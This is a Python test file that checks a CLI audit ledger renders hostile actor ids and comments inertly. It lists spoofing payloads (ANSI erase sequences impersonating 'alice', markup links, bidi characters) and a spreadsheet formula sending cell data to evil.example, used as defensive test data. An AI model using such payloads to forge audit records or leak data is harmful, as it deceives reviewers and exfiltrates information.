"""The reviewer's screen cannot be forged by what the ledger holds (issue #8).

Reproductions: ``--by $'mallory\\r\\e[2Kalice@example.com'`` made ``audit show``
display alice; ``--by 'clerk[/]'`` crashed ``audit log``, ``audit show`` and
``status`` with a rich ``MarkupError``; ``[link=…]`` made links; ``--csv``
passed spreadsheet formulas through. Free text (comments, reasons) reaches the
ledger through the ordinary CLI; actor ids that the API now refuses are put in
the database file directly, as an old ledger or an insider would have them.
"""

from __future__ import annotations

import csv
import io
import sqlite3
from pathlib import Path

import pytest

from statecraft.render import safe
from tests.conftest import REPO, Cli

TOY = str(REPO / "tests" / "support" / "toy.py")
FORGED = "mallory\r\x1b[2Kalice@example.com"
HOSTILE = [
    FORGED,
    "clerk[/]",
    "[link=https://evil.example/]alice@example.com[/link]",
    "[bold red]APPROVED[/]",
    "eve\u202emoc.elpmaxe@ecila",
    "zero\u200bwidth",
    "bell\x07\x1b]0;pwned\x07",
]


def _waiting_run(cli: Cli) -> tuple[str, str]:
    import json

    result = cli("start", TOY, "--input", "-", "--json", input="one two three four five")
    assert result.exit_code == 0, result.output
    started = json.loads(result.stdout)
    assert started["status"] == "WAITING_FOR_APPROVAL"
    return started["run_id"], started["pending"]["proposal_digest"]


def _set_actor(db: Path, run_id: str, actor: str) -> None:
    """Rewrite who started and who decided, as the file would hold it (triggers dropped first)."""
    raw = sqlite3.connect(db)
    raw.execute("DROP TRIGGER audit_event_no_update")
    raw.execute("UPDATE audit_event SET actor_id = ? WHERE run_id = ? AND actor_type = 'human'", (actor, run_id))
    raw.execute("UPDATE run SET started_by = ? WHERE run_id = ?", (actor, run_id))
    raw.commit()
    raw.close()


def _assert_inert(text: str, hostile: str = "", *, shown: bool = False) -> None:
    assert "\x1b" not in text and "\r" not in text and "\x07" not in text
    assert "\u202e" not in text and "\u200b" not in text
    if shown and "[" in hostile:
        # Markup is printed literally, not interpreted (a table may wrap it: compare without layout).
        # Tables may cut a long cell, so its visible start is what is checked.
        flat = "".join(ch for ch in text if ch not in " \n│┃")
        assert safe(hostile).replace(" ", "")[:14] in flat


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_actor_ids_and_comments_render_inert_everywhere(cli: Cli, hostile: str) -> None:
    run_id, digest = _waiting_run(cli)
    approved = cli("approve", run_id, "--by", "reviewer@example.com", "--digest", digest, "--comment", hostile)
    assert approved.exit_code == 0, approved.output
    _assert_inert(approved.stderr + approved.stdout)
    _set_actor(cli.db, run_id, hostile)
    for command, shows in ((("status", run_id), True), (("list",), False), (("audit", "log"), True),
                           (("audit", "log", "--run", run_id), True), (("audit", "show", run_id), True),
                           (("audit", "show", run_id, "--full"), True)):
        result = cli(*command)
        assert result.exit_code == 0, (command, result.output)
        _assert_inert(result.stdout + result.stderr, hostile, shown=shows)


def test_a_forged_actor_cannot_pass_for_alice_in_audit_show(cli: Cli) -> None:
    run_id, digest = _waiting_run(cli)
    cli("approve", run_id, "--by", "someone@example.com", "--digest", digest, "--comment", "ok")
    _set_actor(cli.db, run_id, FORGED)
    shown = cli("audit", "show", run_id, "--json").stdout
    assert FORGED in shown.encode().decode("unicode_escape")  # the data itself is kept exactly
    table = cli("audit", "show", run_id).stdout
    # A terminal would have erased "mallory" and shown only alice; here the escapes are visible.
    flat = "".join(ch for ch in table if ch not in " \n│┃")
    assert "mallory\\x0d\\x1b[2Kalice@example.com" in flat


def test_csv_cells_that_start_like_a_formula_are_defused(cli: Cli) -> None:
    run_id, digest = _waiting_run(cli)
    formula = '=HYPERLINK("https://evil.example/?d="&A1,"click")'
    cli("approve", run_id, "--by", "reviewer@example.com", "--digest", digest, "--comment", formula)
    out = cli("audit", "log", "--run", run_id, "--csv").stdout
    rows = list(csv.DictReader(io.StringIO(out)))
    reasons = [r["reason"] for r in rows if r["reason"]]
    assert "'" + formula in reasons
    assert not any(r.startswith(("=", "+", "-", "@")) for r in reasons)
    # Numbers stay numbers.
    assert all(r["seq"].isdigit() for r in rows)


def test_json_output_stays_exact(cli: Cli) -> None:
    run_id, digest = _waiting_run(cli)
    cli("approve", run_id, "--by", "reviewer@example.com", "--digest", digest, "--comment", FORGED)
    lines = cli("audit", "log", "--run", run_id, "--json").stdout.splitlines()
    import json

    assert FORGED in [json.loads(line)["reason"] for line in lines]


def test_an_error_message_that_echoes_input_is_inert(cli: Cli) -> None:
    _waiting_run(cli)
    result = cli("status", "no-such-run\x1b[2J\u202e")
    assert result.exit_code == 1
    _assert_inert(result.stderr, "")
    assert len(result.stderr.strip().splitlines()) == 1
